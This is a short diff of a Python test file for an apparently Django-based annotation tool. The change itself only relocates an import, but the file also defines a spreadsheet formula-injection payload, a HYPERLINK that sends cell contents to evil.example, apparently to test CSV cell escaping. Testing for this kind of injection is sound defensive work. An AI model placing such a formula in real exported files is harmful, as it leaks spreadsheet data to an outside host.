@@ -15,8 +15,8 @@ from django.contrib.auth import get_user_model
 from annotate.common.csvsafe import safe_cell
 from annotate.imports.bundle_import import import_bundle
 from annotate.imports.label_import import import_labels
+from annotate.members.services import add_member
 from annotate.projects.opening import open_labelling
-from annotate.services import add_member
 from tests.conftest import FIXTURES, PASSWORD
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
